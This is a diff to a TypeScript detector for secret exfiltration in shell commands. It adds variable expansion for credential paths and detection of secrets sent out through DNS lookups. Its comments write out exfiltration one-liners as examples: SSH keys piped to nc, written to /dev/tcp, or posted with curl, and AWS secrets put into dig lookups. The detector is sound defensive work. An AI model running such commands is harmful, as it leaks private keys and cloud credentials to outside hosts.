@@ -116,7 +116,7 @@ export function dumpsEnvironment(v: View): boolean {
 }
 
 /** What secret a command's output holds: a credential store it reads, or the environment; null when none. */
-export function printedSecret(v: View, withTokens = true): string | null {
+export function printedSecret(v: View, withTokens = true, vars: ReadonlyMap<string, string> = NO_VARS): string | null {
   if (dumpsEnvironment(v)) return "the environment";
   if (/^(echo|write-output|write-host|printf)$/.test(v.name)) {
     const variable = v.a.map((x) => SECRET_VARIABLE_ECHOED.exec(x)).find((m) => m !== null);
@@ -130,7 +130,8 @@ export function printedSecret(v: View, withTokens = true): string | null {
   if (code !== null && (CODE_READS_SECRETS.test(code) || /^\s*process\.env\s*$/.test(code))) return "local secrets read by inline code";
   if (!READERS.has(v.name)) return null;
   for (const x of v.a) {
-    const found = namedCredential(x);
+    // `k=~/.ssh/id_rsa; cat $k | nc h p`: the path a variable the script set holds
+    const found = namedCredential(expand(x, vars));
     if (found) return `${found.what} (${found.path})`;
   }
   return null;
@@ -187,6 +188,8 @@ function substitutedSecret(w: Word): string | null {
     }
   return null;
 }
+
+const NO_VARS: ReadonlyMap<string, string> = new Map();
 
 /** The text with each `$NAME` / `${NAME}` assigned earlier in the script replaced by its value (one level: `F=~/.ssh/id_rsa; curl -d @$F …`). */
 function expand(text: string, vars: ReadonlyMap<string, string>): string {
@@ -489,7 +492,7 @@ const wholeUse = (name: string) =>
 
 // --- Secrets staged in a file, then sent ---------------------------------------------------------
 
-const basenameOf = (p: string) => p.replace(/\\/g, "/").replace(/\/+$/, "").replace(/^.*\//, "");
+export const basenameOf = (p: string) => p.replace(/\\/g, "/").replace(/\/+$/, "").replace(/^.*\//, "");
 
 /**
  * Files this command writes a credential store or the environment into, to be sent by a later
@@ -548,13 +551,6 @@ export function sentFiles(v: View): string[] {
       if (put) out.push(put[1]!);
     }
   return out;
-}
-
-/** The staged file a sent file is, if any: the same path, or the same name (a copy into a directory keeps it). */
-export function sentStaged<T extends { file: string }>(sent: string, staged: readonly T[]): T | undefined {
-  const path = sent.replace(/^["']|["']$/g, "");
-  const name = basenameOf(path);
-  return staged.find((s) => s.file === path || (name.length >= 3 && basenameOf(s.file) === name));
 }
 
 // --- The sends --------------------------------------------------------------------------------------
@@ -641,7 +637,7 @@ export function sentSecrets(v: View, laterSink: boolean, vars: ReadonlyMap<strin
     }
   }
   // 5. printed onto a network socket (`cat ~/.ssh/id_rsa > /dev/tcp/host/port`)
-  const printed = printedSecret(v);
+  const printed = printedSecret(v, true, vars);
   if (printed && v.cmd.redirects.some((r) => />/.test(r.op) && /^\/dev\/(tcp|udp)\//.test(r.target)))
     high(`writes ${printed} to a network socket (/dev/tcp)`);
   // 6. printed into a pipeline that ends in a network client (`… | base64 | curl -d @- …`); a path
@@ -671,6 +667,18 @@ export function sentSecrets(v: View, laterSink: boolean, vars: ReadonlyMap<strin
   // 8. a secret variable in a URL or body
   const variable = secretVariableSent(v);
   if (variable) hits.push(variable);
+  // … or in a name looked up (`dig $AWS_SECRET_ACCESS_KEY.x.example`): the name server of that domain receives it
+  if (RESOLVERS.has(n) && !hits.length)
+    for (const x of v.a) {
+      SECRET_VARIABLE_REF.lastIndex = 0;
+      const m = !x.startsWith("-") && /\./.test(x) ? SECRET_VARIABLE_REF.exec(x) : null;
+      if (m) {
+        high(
+          `${n} looks up a name holding $${m[1] ?? m[2]} (${shortPath(x)}): the name server of that domain receives it (DNS exfiltration)`,
+        );
+        break;
+      }
+    }
   // 9. inline code that reads a key or the environment and posts it (python -c "requests.post(…, open('~/.ssh/id_rsa'))")
   if (isInterpreterName(n)) {
     const code = inlineCode(v);
